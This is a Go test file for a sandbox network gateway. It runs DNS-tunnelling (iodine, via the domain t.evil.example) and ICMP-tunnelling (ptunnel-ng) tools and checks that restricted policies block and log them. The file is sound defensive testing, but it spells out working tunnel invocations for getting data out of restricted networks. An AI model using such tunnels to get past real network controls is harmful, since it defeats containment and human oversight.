package gateway

import (
	"bufio"
	"bytes"
	"context"
	"errors"
	"fmt"
	"io"
	"net"
	"net/netip"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"sync"
	"syscall"
	"testing"
	"time"

	"github.com/bothy-dev/bothy"
	"github.com/miekg/dns"
	"golang.org/x/sys/unix"
)

// These tests run tools that tunnel out of restricted networks: iodine, which hides IP in DNS, and
// ptunnel-ng, which hides TCP in ICMP. Each must first work on an open network. The other end is a
// namespace with a public address that only the gateway's dialer reaches.

const (
	worldAddr  = "5.6.7.8"
	tunnelName = "t.evil.example"
)

// dialHere dials from its own namespace on behalf of the test: it listens on a Unix socket and
// passes back the connections that it has opened.
func dialHere(args []string) error {
	l, err := net.ListenUnix("unix", &net.UnixAddr{Name: args[0], Net: "unix"})
	if err != nil {
		return err
	}
	go func() {
		for {
			c, err := l.AcceptUnix()
			if err != nil {
				return
			}
			go dialFor(c)
		}
	}()
	fmt.Println("ready")
	_, _ = io.Copy(io.Discard, os.Stdin)
	return nil
}

func dialFor(c *net.UnixConn) {
	defer c.Close()
	b := make([]byte, 256)
	n, err := c.Read(b)
	if err != nil {
		return
	}
	network, addr, _ := strings.Cut(string(b[:n]), " ")
	out, err := net.DialTimeout(network, addr, hangs)
	if err != nil {
		return
	}
	defer out.Close()
	f, err := out.(interface{ File() (*os.File, error) }).File()
	if err != nil {
		return
	}
	defer f.Close()
	_, _, _ = c.WriteMsgUnix([]byte("x"), unix.UnixRights(int(f.Fd())), nil)
}

// say sends a line to an echo server and expects it back. It waits for the server to listen, and
// the given time for the answer.
func say(args []string) error {
	patience, err := time.ParseDuration(args[1])
	if err != nil {
		return err
	}
	var c net.Conn
	for end := time.Now().Add(patience); ; time.Sleep(10 * time.Millisecond) {
		if c, err = net.DialTimeout("tcp4", args[0], patience); err == nil {
			break
		}
		if !errors.Is(err, syscall.ECONNREFUSED) || time.Now().After(end) {
			return err
		}
	}
	defer c.Close()
	const line = "what must not get out"
	_ = c.SetDeadline(time.Now().Add(patience))
	if _, err := io.WriteString(c, line); err != nil {
		return err
	}
	got := make([]byte, len(line))
	if _, err := io.ReadFull(c, got); err != nil {
		return err
	}
	if string(got) != line {
		return fmt.Errorf("got %q", got)
	}
	return nil
}

// world is a namespace with a public address. It records the requests it gets.
type world struct {
	*namespace
	socket string

	mu   sync.Mutex
	seen []string
}

func newWorld(t testing.TB) *world {
	w := &world{namespace: newNamespace(t), socket: filepath.Join(t.TempDir(), "dial")}
	w.ip("-n", w.name, "addr", "add", worldAddr+"/32", "dev", "lo")
	w.start("dial", w.socket)
	return w
}

func (w *world) note(what string) {
	w.mu.Lock()
	defer w.mu.Unlock()
	w.seen = append(w.seen, what)
}

// visits returns the requests since the last call.
func (w *world) visits() []string {
	w.mu.Lock()
	defer w.mu.Unlock()
	seen := w.seen
	w.seen = nil
	return seen
}

func (w *world) DialContext(_ context.Context, network, address string) (net.Conn, error) {
	w.note(network + " " + address)
	return w.dial(network, address)
}

func (w *world) dial(network, address string) (net.Conn, error) {
	u, err := net.DialUnix("unix", nil, &net.UnixAddr{Name: w.socket, Net: "unix"})
	if err != nil {
		return nil, err
	}
	defer u.Close()
	if _, err := io.WriteString(u, network+" "+address); err != nil {
		return nil, err
	}
	oob := make([]byte, unix.CmsgSpace(4))
	_, n, _, _, err := u.ReadMsgUnix(make([]byte, 1), oob)
	if err != nil {
		return nil, &net.OpError{Op: "dial", Net: network, Err: syscall.ECONNREFUSED}
	}
	msgs, err := unix.ParseSocketControlMessage(oob[:n])
	if err != nil {
		return nil, err
	}
	fds, err := unix.ParseUnixRights(&msgs[0])
	if err != nil {
		return nil, err
	}
	f := os.NewFile(uintptr(fds[0]), "world")
	defer f.Close()
	return net.FileConn(f)
}

func (w *world) LookupNetIP(_ context.Context, _, host string) ([]netip.Addr, error) {
	w.note("lookup " + host)
	if host == tunnelName+"." {
		return []netip.Addr{netip.MustParseAddr(worldAddr)}, nil
	}
	return nil, &net.DNSError{Name: host, Err: "no such host", IsNotFound: true}
}

// Exchange queries the name server of the tunnel's domain, as the host's resolver would.
func (w *world) Exchange(_ context.Context, q dns.Question) ([]dns.RR, error) {
	w.note("exchange " + q.Name)
	if q.Qtype == dns.TypeNS {
		return nil, nil
	}
	c, err := w.dial("udp", worldAddr+":53")
	if err != nil {
		return nil, err
	}
	defer c.Close()
	m := new(dns.Msg)
	m.SetQuestion(q.Name, q.Qtype)
	m.SetEdns0(4096, false)
	r, _, err := new(dns.Client).ExchangeWithConn(m, &dns.Conn{Conn: c, UDPSize: 4096})
	if err != nil {
		return nil, err
	}
	return r.Answer, nil
}

// output collects the output of a program.
type output struct {
	mu sync.Mutex
	b  bytes.Buffer
}

func (o *output) add(line string) {
	o.mu.Lock()
	defer o.mu.Unlock()
	o.b.WriteString(line)
}

func (o *output) String() string {
	o.mu.Lock()
	defer o.mu.Unlock()
	return o.b.String()
}

// program runs a program of the host in the namespace. stop kills it; ended is closed when it has
// ended.
func (ns *namespace) program(name string, args ...string) (out *output, ended <-chan struct{}, stop func()) {
	ns.t.Helper()
	cmd := exec.Command("ip", append([]string{"netns", "exec", ns.name, name}, args...)...)
	r, w, err := os.Pipe()
	if err != nil {
		ns.t.Fatal(err)
	}
	cmd.Stdout, cmd.Stderr = w, w
	if err := cmd.Start(); err != nil {
		ns.t.Fatal(err)
	}
	w.Close()
	out = &output{}
	done := make(chan struct{})
	go func() {
		defer close(done)
		defer r.Close()
		for lines := bufio.NewReader(r); ; {
			line, err := lines.ReadString('\n')
			out.add(line)
			if err != nil {
				_ = cmd.Wait()
				return
			}
		}
	}()
	stop = func() { _ = cmd.Process.Kill(); <-done }
	ns.t.Cleanup(stop)
	return out, done, stop
}

// needs skips a test whose programs are not installed.
func needs(t *testing.T, programs ...string) {
	for _, p := range programs {
		if _, err := exec.LookPath(p); err != nil {
			t.Skipf("%v: install Debian's package of that name", err)
		}
	}
}

// refusals counts what the gateway has refused since a time.
func refusals(g *Gateway, since time.Time, protocol string) (n int) {
	for _, d := range g.Log(since) {
		if !d.Allowed && (protocol == "" || d.Protocol == protocol) {
			n++
		}
	}
	return n
}

func newTunnelLab(t *testing.T) (*world, *namespace, *Gateway) {
	w := newWorld(t)
	inside := newNamespace(t)
	g, err := New(inside.tap(), Options{Dialer: w, Resolver: w, HostAddrs: ownHostAddrs})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { g.Close() })
	return w, inside, g
}

func TestDNSTunnel(t *testing.T) {
	needs(t, "iodine", "iodined")
	w, inside, g := newTunnelLab(t)
	server, _, _ := w.program("iodined", "-f", "-c", "-P", "secret", "10.99.0.1/24", tunnelName)
	eventually(t, "iodined listens", func() bool { return strings.Contains(server.String(), "Listening to dns") })
	w.start("serve", "10.99.0.1:7000", "echo")

	for _, way := range []struct {
		name, server string
		// lines is how many lines the log gets at once. Direct attempts are all equal and fold.
		lines int
	}{
		{"directly to its server", worldAddr, 1}, {"through the gateway's resolver", bothy.GatewayAddr.String(), 6},
	} {
		// Skip the search for the largest packet, which takes long.
		args := []string{"-f", "-r", "-P", "secret", "-T", "TXT", "-O", "Base32", "-m", "200", way.server, tunnelName}
		t.Run("open, "+way.name, func(t *testing.T) {
			mustSetPolicy(t, g, open)
			out, ended, stop := inside.program("iodine", args...)
			defer stop()
			eventually(t, "the tunnel is there", func() bool {
				select {
				case <-ended:
					t.Fatalf("iodine ended: %s", out)
				default:
				}
				return strings.Contains(out.String(), "transmitting data")
			})
			if _, err := inside.run("say", "10.99.0.1:7000", "20s"); err != nil {
				t.Errorf("the tunnel carries nothing: %v\n%s", err, out)
			}
		})
		for _, n := range []bothy.Network{off, only("good.example")} {
			t.Run(string(n.Mode)+", "+way.name, func(t *testing.T) {
				mustSetPolicy(t, g, n)
				w.visits()
				since := time.Now()
				out, ended, stop := inside.program("iodine", args...)
				defer stop()
				eventually(t, "iodine gives up, or has been refused often", func() bool {
					select {
					case <-ended:
						return true
					default:
						return refusals(g, since, "") >= way.lines
					}
				})
				if n := refusals(g, since, ""); n == 0 {
					t.Errorf("the attempt is not in the log")
				}
				if strings.Contains(out.String(), "transmitting data") || strings.Contains(out.String(), "Version ok") {
					t.Errorf("iodine reached its server: %s", out)
				}
				if _, err := inside.run("say", "10.99.0.1:7000", "100ms"); err == nil {
					t.Error("the tunnel works")
				}
				if seen := w.visits(); len(seen) > 0 {
					t.Errorf("requests reached the world: %q", seen)
				}
			})
		}
	}
}

func mustSetPolicy(t testing.TB, g *Gateway, n bothy.Network) {
	t.Helper()
	if err := g.SetPolicy(n); err != nil {
		t.Fatal(err)
	}
}

func TestICMPTunnel(t *testing.T) {
	needs(t, "ptunnel-ng")
	w, inside, g := newTunnelLab(t)
	w.program("ptunnel-ng")
	w.start("serve", "127.0.0.1:7000", "echo")
	client := func(ns *namespace, proxy string) (stop func()) {
		_, _, stop = ns.program("ptunnel-ng", "-p"+proxy, "-l2222", "-r127.0.0.1", "-R7000")
		return stop
	}

	// It works through a plain network device.
	free := newNamespace(t)
	free.ip("link", "add", "name", "eth0", "netns", free.name, "type", "veth", "peer", "name", "eth0", "netns", w.name)
	for ns, addr := range map[*namespace]string{free: "5.6.9.1/24", w.namespace: "5.6.9.2/24"} {
		ns.ip("-n", ns.name, "addr", "add", addr, "dev", "eth0")
		ns.ip("-n", ns.name, "link", "set", "eth0", "up")
	}
	free.ip("-n", free.name, "route", "add", "default", "via", "5.6.9.2")
	stop := client(free, worldAddr)
	if _, err := free.run("say", "127.0.0.1:2222", "20s"); err != nil {
		t.Fatalf("ptunnel-ng does not work at all: %v", err)
	}
	stop()

	// It works in no mode behind the gateway, which alone answers echo requests.
	for _, n := range []bothy.Network{open, off, only("good.example")} {
		for _, proxy := range []string{worldAddr, bothy.GatewayAddr.String()} {
			t.Run(fmt.Sprintf("%s to %s", n.Mode, proxy), func(t *testing.T) {
				mustSetPolicy(t, g, n)
				w.visits()
				defer client(inside, proxy)()
				if _, err := inside.run("say", "127.0.0.1:2222", "1s"); err == nil {
					t.Error("the tunnel works")
				}
				if proxy == worldAddr {
					// Equal lines fold, so later ones may not have been written yet.
					eventually(t, "the log tells of it", func() bool { return refusals(g, time.Time{}, "icmp") > 0 })
				}
				if seen := w.visits(); len(seen) > 0 {
					t.Errorf("requests reached the world: %q", seen)
				}
			})
		}
	}
}
